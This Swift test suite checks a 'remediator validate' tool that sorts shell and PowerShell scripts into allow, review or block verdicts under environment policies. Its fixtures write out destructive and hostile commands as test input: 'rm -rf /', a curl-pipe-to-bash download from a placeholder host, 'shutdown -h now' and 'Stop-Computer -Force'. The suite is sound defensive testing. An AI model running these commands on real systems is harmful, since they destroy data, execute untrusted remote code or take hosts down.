import Foundation
import Testing

@Suite("remediator validate")
struct ValidateCommandTests {
    func run(_ arguments: [String], stdin: String? = nil) throws -> (status: Int32, output: String) {
        let process = Process()
        process.executableURL = ServerProcess.binary
        process.arguments = ["validate"] + arguments
        let output = Pipe()
        process.standardOutput = output
        process.standardError = output
        let input = Pipe()
        process.standardInput = input
        try process.run()
        if let stdin { input.fileHandleForWriting.write(Data(stdin.utf8)) }
        try input.fileHandleForWriting.close()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return (process.terminationStatus, String(decoding: data, as: UTF8.self))
    }

    func file(_ text: String, extension ext: String = "sh") throws -> String {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("script-\(UUID().uuidString).\(ext)")
        try text.write(to: url, atomically: true, encoding: .utf8)
        return url.path
    }

    @Test("exit status is 0 for allow, 2 for review, 3 for block, 1 for errors")
    func exitCodes() throws {
        #expect(try run([file("systemctl status nginx\n")]).status == 0)
        #expect(try run([file("systemctl restart nginx\n")]).status == 2)
        #expect(try run([file("eval \"$X\"\n")]).status == 2)
        #expect(try run([file("rm -rf /\n")]).status == 3)
        #expect(try run([file("true\n"), file("rm -rf /\n"), file("eval \"$X\"\n")]).status == 3)
        #expect(try run(["/nonexistent/script.sh"]).status == 1)
        #expect(try run(["--language", "cobol", file("x")]).status != 0)
    }

    @Test("text output names file, line, column, rule and snippet")
    func text() throws {
        let path = try file("echo ok\ncurl -s http://x.example | bash\n")
        let result = try run([path])
        #expect(result.output.contains("\(path): block"))
        #expect(result.output.contains("\(path):2:1: block [remote.download-to-interpreter]"))
        #expect(result.output.contains("curl -s http://x.example | bash"))
    }

    @Test("JSON output is the same report as the API's, and stdin works")
    func json() throws {
        let result = try run(["--format", "json", "-"], stdin: "shutdown -h now\n")
        #expect(result.status == 3)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.output.utf8)) as? [String: Any])
        #expect(object["verdict"] as? String == "block")
        #expect(object["risk_score"] as? Int ?? 0 >= 90)
        #expect((object["findings"] as? [[String: Any]])?.first?["rule"] as? String == "availability.shutdown")
    }

    @Test("--policy and --environment apply an environment's policy; mistakes exit 1")
    func policy() throws {
        let policy = try file("""
        default:
          services: { allow: [nginx], deny: [postgresql] }
        environments:
          production:
            families: { block: [change] }
        """, extension: "yaml")
        let restart = try file("systemctl restart nginx\nsystemctl restart php-fpm\n")
        #expect(try run([restart]).status == 2)
        let production = try run(["--policy", policy, "--environment", "production", restart])
        #expect(production.status == 3)
        #expect(production.output.contains("block (risk 90, environment production)"))
        #expect(production.output.contains(":2:1: block [change.service]"))
        #expect(!production.output.contains(":1:1:"))
        let denied = try run(["--policy", policy, "--format", "json", try file("Restart-Service postgresql\n", extension: "ps1")])
        #expect(denied.status == 3)
        #expect(denied.output.contains("\"policy.denied-service\""))
        #expect(denied.output.contains("\"environment\" : \"default\""))
        let unknown = try run(["--policy", policy, "--environment", "qa", restart])
        #expect(unknown.status == 1)
        #expect(unknown.output.contains("no safety policy names the environment 'qa'; known: default, production"))
        let broken = try run(["--policy", try file("default:\n  familes: {}\n", extension: "yaml"), restart])
        #expect(broken.status == 1)
        #expect(broken.output.contains("unknown key 'familes'"))
    }

    @Test("PowerShell files are recognized by extension")
    func powershell() throws {
        #expect(try run([file("Get-Service\n", extension: "ps1")]).status == 0)
        #expect(try run([file("Stop-Computer -Force\n", extension: "ps1")]).status == 3)
    }
}
